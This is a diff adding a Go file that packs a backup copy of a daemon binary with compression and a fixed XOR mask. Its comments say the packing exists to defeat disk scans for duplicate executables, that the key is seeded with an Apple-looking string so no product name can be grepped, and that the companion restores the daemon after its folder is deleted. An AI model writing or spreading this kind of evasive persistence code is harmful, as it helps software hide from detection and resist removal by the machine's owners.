@@ -0,0 +1,110 @@
+package companion
+
+import (
+	"bytes"
+	"compress/flate"
+	"crypto/sha256"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+)
+
+// The offline backup and its spare are stored PACKED: DEFLATE-compressed,
+// then XOR-masked, behind a short header that carries the unpacked size. A
+// plain copy was a byte-for-byte Mach-O twin of the daemon, which a disk
+// scan for duplicate executables finds in one pass; packed, it is an opaque
+// blob about half the size. The mask key is fixed and compiled in (like the
+// folder name), not per-install: the companion must unpack its backup after
+// the daemon's folder, and any key kept in it, is gone. Friction, not
+// secrecy — the Ed25519 signature inside is still what makes a backup
+// trusted.
+
+// packMagic opens every packed file, after unmasking.
+var packMagic = []byte("\x00MAb\x01\x00\x00\x00")
+
+// packHeaderLen is the magic plus the big-endian unpacked size.
+const packHeaderLen = 16
+
+// maxUnpacked bounds an unpack, so a hostile header cannot make a reader
+// allocate without limit. A daemon binary is tens of MB.
+const maxUnpacked = 512 << 20
+
+// packKey is the mask key. The seed is a neutral, Apple-looking string so
+// the binary carries no greppable product name.
+var packKey = sha256.Sum256([]byte("com.apple.MobileAsset.softwareupdate/v1"))
+
+func mask(b []byte) {
+	for i := range b {
+		b[i] ^= packKey[i%len(packKey)]
+	}
+}
+
+// Pack returns bin packed for the backup path.
+func Pack(bin []byte) ([]byte, error) {
+	var buf bytes.Buffer
+	buf.Write(packMagic)
+	binary.Write(&buf, binary.BigEndian, uint64(len(bin)))
+	w, err := flate.NewWriter(&buf, flate.BestCompression)
+	if err != nil {
+		return nil, err
+	}
+	if _, err := w.Write(bin); err != nil {
+		return nil, err
+	}
+	if err := w.Close(); err != nil {
+		return nil, err
+	}
+	out := buf.Bytes()
+	mask(out)
+	return out, nil
+}
+
+// UnpackedSize reads the unpacked size from the first packHeaderLen bytes
+// of a packed file; ok is false when head is not a packed header (a legacy
+// plain copy).
+func UnpackedSize(head []byte) (int64, bool) {
+	if len(head) < packHeaderLen {
+		return 0, false
+	}
+	h := bytes.Clone(head[:packHeaderLen])
+	mask(h)
+	if !bytes.Equal(h[:len(packMagic)], packMagic) {
+		return 0, false
+	}
+	return int64(binary.BigEndian.Uint64(h[len(packMagic):])), true
+}
+
+// Unpack returns the daemon bytes b holds. A legacy plain copy (written
+// before backups were packed) is returned as is, so an existing backup
+// stays usable until the daemon next refreshes it.
+func Unpack(b []byte) ([]byte, error) {
+	n, ok := UnpackedSize(b)
+	if !ok {
+		return b, nil
+	}
+	if n > maxUnpacked {
+		return nil, errors.New("companion: packed backup too large")
+	}
+	body := bytes.Clone(b)
+	mask(body)
+	out := make([]byte, 0, n)
+	w := bytes.NewBuffer(out)
+	if _, err := io.Copy(w, io.LimitReader(flate.NewReader(bytes.NewReader(body[packHeaderLen:])), n+1)); err != nil {
+		return nil, fmt.Errorf("companion: unpack backup: %w", err)
+	}
+	if int64(w.Len()) != n {
+		return nil, errors.New("companion: packed backup is truncated")
+	}
+	return w.Bytes(), nil
+}
+
+// ReadBackup reads a backup (or spare) at path and unpacks it.
+func ReadBackup(path string) ([]byte, error) {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return nil, err
+	}
+	return Unpack(b)
+}